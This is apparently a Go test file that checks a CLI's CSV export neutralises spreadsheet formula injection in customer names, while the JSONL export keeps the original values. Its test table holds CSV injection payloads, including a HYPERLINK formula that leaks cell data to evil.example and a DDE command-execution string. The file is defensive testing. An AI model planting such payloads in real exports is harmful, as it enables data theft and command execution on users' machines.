package main

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/fanfare-go/fanfare/client/clienttest"
)

// formulaCells are values a customer can type into a name, and how the CSV must write them.
var formulaCells = []struct{ in, out string }{
	{`=HYPERLINK("https://evil.example/?leak="&A1,"Click")`, `'=HYPERLINK("https://evil.example/?leak="&A1,"Click")`},
	{"=1+2", "'=1+2"},
	{"+1+2", "'+1+2"},
	{"-2+3", "'-2+3"},
	{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
	{"\t=1+2", "'\t=1+2"},
	{"\r=1+2", "'\r=1+2"},
	{"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
	{"+44 7700 900123", "'+44 7700 900123"}, // not a plain number: Excel would compute "44 7700 900123"
	{"-", "'-"},
	{"- a note", "'- a note"},
	// Plain numbers are numbers to a spreadsheet, never formulas: written as they are.
	{"-5", "-5"},
	{"+447700900123", "+447700900123"},
	{"-1.25", "-1.25"},
	{"+.5", "+.5"},
	{"-3e-7", "-3e-7"},
	// Anything that does not start with a formula character is written as it is.
	{"Ada Lovelace", "Ada Lovelace"},
	{"a=b", "a=b"},
	{" =1+2", " =1+2"},
	{"'quoted", "'quoted"},
	{"5", "5"},
	{"", ""},
}

func TestSpreadsheetSafe(t *testing.T) {
	for _, tc := range formulaCells {
		if got := spreadsheetSafe(tc.in); got != tc.out {
			t.Errorf("spreadsheetSafe(%q) = %q, want %q", tc.in, got, tc.out)
		}
	}
}

// TestCSVNeutralisesFormulas exports entries whose names are formulas through the CLI and reads
// the CSV back: each formula has its leading quote, each plain number is a number, and the
// json export still has the exact values.
func TestCSVNeutralisesFormulas(t *testing.T) {
	s := clienttest.Start(t)
	entries := clienttest.Synthetic(len(formulaCells), 7)
	for i := range entries {
		name := formulaCells[i].in
		entries[i].Consumer.FullName = &name
	}
	s.AddWaitlist("seq", entries)

	r := cli(t, against(s), "waitlist", "consumers", "seq", "--format", "csv", "--fields", "id,consumer.fullName")
	wantCode(t, r, 0)
	records, err := csv.NewReader(strings.NewReader(r.stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != 1+len(formulaCells) || strings.Join(records[0], ",") != "id,consumer.fullName" {
		t.Fatalf("%d records, header %q", len(records), records[0])
	}
	for i, tc := range formulaCells {
		if got := records[1+i][1]; got != tc.out {
			t.Errorf("row %d: fullName cell %q, want %q", i+1, got, tc.out)
		}
	}

	r = cli(t, against(s), "waitlist", "consumers", "seq", "--format", "jsonl", "--fields", "consumer.fullName")
	wantCode(t, r, 0)
	lines := strings.Split(strings.TrimSuffix(r.stdout, "\n"), "\n")
	if len(lines) != len(formulaCells) {
		t.Fatalf("%d jsonl lines, want %d", len(lines), len(formulaCells))
	}
	for i, tc := range formulaCells {
		var got struct {
			FullName string `json:"consumer.fullName"`
		}
		if err := json.Unmarshal([]byte(lines[i]), &got); err != nil || got.FullName != tc.in {
			t.Errorf("jsonl line %d: fullName %q (%v), want the value as sent, %q", i+1, got.FullName, err, tc.in)
		}
	}
}
